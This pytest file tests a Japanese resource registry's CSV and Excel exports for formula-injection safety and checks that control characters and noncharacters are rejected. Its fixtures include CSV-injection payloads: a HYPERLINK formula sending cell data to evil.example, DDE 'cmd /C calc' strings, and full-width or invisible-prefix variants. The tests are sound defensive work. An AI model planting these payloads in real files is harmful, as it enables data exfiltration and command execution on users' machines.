"""Exports a spreadsheet opens safely (no formula runs, no control character breaks the
file), and text with control characters is refused where it enters."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import update

from geo_service.outputs import csv_writer, spreadsheet_cell, unquote_cell
from geo_service.registry.exports import export_bytes
from geo_service.registry.import_rows import ImportContext
from geo_service.registry.imports import parse_resources, read_resource_table
from geo_service.registry.resources import (
    Resource,
    ResourceFields,
    ResourceValidationError,
    validate_resource,
)
from geo_service.registry.store.schema import resources
from geo_service.registry.store.testing import fresh_store
from tests.utils.clients import client_with_admin

PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "description": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "how_to_apply": "-2+3+cmd|' /C calc'!A0",
    "target_users": "'=already quoted once",
    "operator": "'quoted, but not a formula",
}


def resource(**kw) -> Resource:
    data = {"id": "r-1", "name": "サロン", "category": "サロン", "lon": 130.69, "lat": 33.65,
            "contact": {"tel": "-"}, "fee": {"kind": "paid", "text": "-300円"}}
    return Resource.model_validate(data | kw)


def cells(content: bytes, fmt: str) -> list[object]:
    """Every cell's stored value (Excel: formulas as their text, with a '=')."""
    if fmt == "csv":
        frame = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False,
                            encoding="utf-8-sig")
        return [v for row in frame.itertuples(index=False) for v in row]
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for ws in wb for row in ws.iter_rows(min_row=2) for c in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("public", [True, False])
def test_no_cell_starts_a_formula(fmt, public):
    content = export_bytes([resource(**PAYLOADS)], fmt, public=public)  # type: ignore[arg-type]
    values = [v for v in cells(content, fmt) if isinstance(v, str)]
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for text in (*PAYLOADS.values(), "-", "-300円"):
        if not text.startswith("'") or text.startswith("'="):
            assert "'" + text in values, text
    assert PAYLOADS["operator"] in values  # not a formula: left as written
    if fmt == "xlsx":  # nothing is stored as a formula either
        wb = openpyxl.load_workbook(io.BytesIO(content))
        assert all(c.data_type != "f" for ws in wb for row in ws.iter_rows() for c in row)
    assert (130.69 if fmt == "xlsx" else "130.69") in cells(content, fmt)  # numbers stay


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_quoted_export_imports_as_it_was(tmp_path, fmt):
    original = resource(**PAYLOADS)
    path = tmp_path / f"out.{fmt}"
    path.write_bytes(export_bytes([original], fmt, public=False))  # type: ignore[arg-type]
    report = parse_resources(read_resource_table(path), ImportContext())
    assert report.ok, report.summary()
    again = report.accepted[0][1]
    for name, text in PAYLOADS.items():
        assert getattr(again, name) == text
    assert again.contact.tel == "-" and again.fee.text == "-300円"


def test_cp932_export_with_a_stored_control_character(tmp_path):
    stored = resource(name="見守り\x01会")  # read from the store: not checked again
    content = export_bytes([stored], "csv", encoding="cp932", public=False)
    assert "見守り会" in content.decode("cp932")


@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''-", "-", "@", "\tx", "\rx", "plain",
                                  "'plain", "", "''"])
def test_unquote_undoes_the_quote(text):
    assert unquote_cell(spreadsheet_cell(text)) == text


def test_numbers_are_not_quoted():
    assert spreadsheet_cell(-3.5) == -3.5 and spreadsheet_cell(-1) == -1
    assert spreadsheet_cell(None) is None


def test_pipeline_csv_is_safe_too(tmp_path):
    table = pd.DataFrame({"area_name": ["=cmd|' /C calc'!A0", "川西"], "share": [-0.5, 0.25]})
    csv_writer(table)(tmp_path / "areas.csv")
    text = (tmp_path / "areas.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd" in text and "\n川西,0.25" in text and "-0.5" in text


# --------------------------------------------------------------------------- control chars


@pytest.mark.parametrize("field,value", [
    ("name", "見守り\u0001会"), ("kana", "ミマモリ\x1b"), ("name", "tab\there"),
    ("notes", "備考\x00"), ("address", "住所\n2行目"), ("payment_methods", ["現金", "PayPay\x08"]),
    ("contact", {"tel": "0948\x0712"}), ("schedule", {"text": "第1\x0c水曜"}),
    ("fee", {"text": "300円\x7f\x1f"}),
])
def test_control_characters_are_refused_naming_the_field(field, value):
    with pytest.raises(ResourceValidationError) as e:
        validate_resource({"name": "x", "category": "サロン"} | {field: value}, ResourceFields)
    (where, _, reason), = e.value.errors
    assert where.split(".")[0] == field and "control character U+00" in reason


def test_multiline_fields_keep_tabs_and_line_breaks():
    text = "1行目\r\n2行目\n\t字下げ"
    r = validate_resource({"name": "x", "category": "サロン", "description": text,
                           "notes": text, "staff_notes": text, "how_to_apply": text,
                           "schedule": {"text": text}}, ResourceFields)
    assert r.notes == text.strip() and r.schedule.text == text.strip()


def test_import_rows_with_control_characters_are_row_problems(tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("名称,カテゴリ,日程備考,備考\n"
                    "ok,サロン,,\"二行\n目\"\n"
                    "bad\x01,サロン,,\n"
                    "ok2,サロン,毎週\x02,\n", encoding="utf-8")
    report = parse_resources(read_resource_table(path), ImportContext())
    assert [n for n, _ in report.accepted] == [2]
    assert [(p.row, p.column) for p in report.problems] == [(3, "名称"), (4, "日程備考")]


@pytest.fixture
def api(tmp_path, fast_hashes):
    store = fresh_store("sqlite", tmp_path)
    client, admin = client_with_admin(store, tmp_path)
    return client, store, admin


def test_api_refuses_control_characters_with_a_422(api):
    client, _, admin = api
    body = {"name": "見守り\u0001会", "category": "見守り"}
    r = client.post("/resources", json=body, headers=admin)
    assert r.status_code == 422, r.text
    assert r.json()["detail"]["field"] == "name" and "U+0001" in r.json()["detail"]["reason"]
    created = client.post("/resources", json=body | {"name": "見守り会"}, headers=admin).json()
    r = client.patch(f"/resources/{created['id']}", json={"notes": "a\x00b"}, headers=admin)
    assert r.status_code == 422 and r.json()["detail"]["field"] == "notes"


def test_a_stored_control_character_does_not_break_the_exports(api):
    client, store, admin = api
    rid = client.post("/resources", json={"name": "見守り会", "category": "見守り",
                                          "notes": "=1+1"}, headers=admin).json()["id"]
    stored = store.get(rid).model_dump(mode="json") | {"name": "見守り\u0001会"}
    with store.engine.begin() as conn:  # as stored before control characters were refused
        conn.execute(update(resources).where(resources.c.id == rid).values(data=stored))
    for fmt in ("csv", "xlsx"):
        for headers in ({}, admin):
            r = client.get("/resources/export", params={"format": fmt}, headers=headers)
            assert r.status_code == 200, (fmt, headers)
            assert "見守り会" in cells(r.content, fmt)
            assert "'=1+1" in cells(r.content, fmt)


# --------------------------------------------------------------------------- beyond ASCII

# Formula starters a spreadsheet program may normalise to = + - @ (full-width and small
# forms, the minus sign), and invisible characters it may skip before one (DEL, ZWSP, BOM)
WIDE_FORMULAS = ["＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "−1", "\u200b=1+1", "\ufeff=1+1",
                 "\x7f=1+1", "\u200b\ufeff＝HYPERLINK(\"x\")", "'＝1", "\u200b"]


@pytest.mark.parametrize("text", WIDE_FORMULAS)
def test_formula_starters_beyond_ascii_get_the_quote(text):
    cell = spreadsheet_cell(text)
    assert cell == (text if text == "\u200b" else "'" + text)  # ZWSP alone starts nothing
    assert unquote_cell(cell) == text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_starters_beyond_ascii_are_quoted_and_import_as_they_were(tmp_path, fmt):
    texts = [t for t in WIDE_FORMULAS if t != "\u200b"]
    originals = [resource(id=f"r-{i}", name=text, notes=text, staff_notes=text)
                 for i, text in enumerate(texts)]
    content = export_bytes(originals, fmt, public=False)  # type: ignore[arg-type]
    values = [v for v in cells(content, fmt) if isinstance(v, str)]
    assert not [t for t in texts if t in values]
    assert all(values.count("'" + t) == 3 for t in texts)
    path = tmp_path / f"out.{fmt}"
    path.write_bytes(content)
    report = parse_resources(read_resource_table(path), ImportContext())
    assert report.ok, report.summary()
    again = [(r.name, r.notes, r.staff_notes) for _, r in report.accepted]
    assert again == [(t, t, t) for t in texts]


# --------------------------------------------------------------------------- noncharacters


NONCHARACTERS = ["\ufffe", "\uffff", "\ufdd0", "\ufdef", "\U0001fffe", "\U0010ffff"]


@pytest.mark.parametrize("char", NONCHARACTERS)
@pytest.mark.parametrize("field,value", [
    ("name", "見守り{}会"), ("notes", "備考{}"), ("contact", {"tel": "0948{}"}),
    ("schedule", {"stops": [{"name": "停留所{}", "lon": 130.69, "lat": 33.65,
                             "weekday": "mon", "time": "10:00"}]}),
])
def test_noncharacters_are_refused_naming_the_field(char, field, value):
    def fill(v):
        if isinstance(v, str):
            return v.format(char)
        if isinstance(v, list):
            return [fill(x) for x in v]
        return {k: fill(x) for k, x in v.items()} if isinstance(v, dict) else v

    with pytest.raises(ResourceValidationError) as e:
        validate_resource({"name": "x", "category": "サロン"} | {field: fill(value)},
                          ResourceFields)
    (where, _, reason), = e.value.errors
    assert where.split(".")[0] == field
    assert f"U+{ord(char):04X}" in reason


def test_import_rows_with_noncharacters_are_row_problems(tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("名称,カテゴリ,備考\nok,サロン,\nbad\ufffe,サロン,\nok2,サロン,x\uffff\n",
                    encoding="utf-8")
    report = parse_resources(read_resource_table(path), ImportContext())
    assert [n for n, _ in report.accepted] == [2]
    assert [(p.row, p.column) for p in report.problems] == [(3, "名称"), (4, "備考")]


def test_api_refuses_noncharacters_with_a_422(api):
    client, _, admin = api
    r = client.post("/resources", json={"name": "見守り\uffff会", "category": "見守り"},
                    headers=admin)
    assert r.status_code == 422, r.text
    assert r.json()["detail"]["field"] == "name" and "U+FFFF" in r.json()["detail"]["reason"]


@pytest.mark.parametrize("char", ["\u0001", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe"])
def test_a_stored_noncharacter_does_not_break_the_exports(api, char):
    client, store, admin = api
    rid = client.post("/resources", json={"name": "見守り会", "category": "見守り"},
                      headers=admin).json()["id"]
    stored = store.get(rid).model_dump(mode="json") | {"name": f"見守り{char}会",
                                                       "notes": f"{char}=1+1"}
    with store.engine.begin() as conn:  # as stored before these characters were refused
        conn.execute(update(resources).where(resources.c.id == rid).values(data=stored))
    for fmt in ("csv", "xlsx"):
        for headers in ({}, admin):
            r = client.get("/resources/export", params={"format": fmt}, headers=headers)
            assert r.status_code == 200, (fmt, headers)
            values = cells(r.content, fmt)
            assert "見守り会" in values and "'=1+1" in values, (fmt, values)
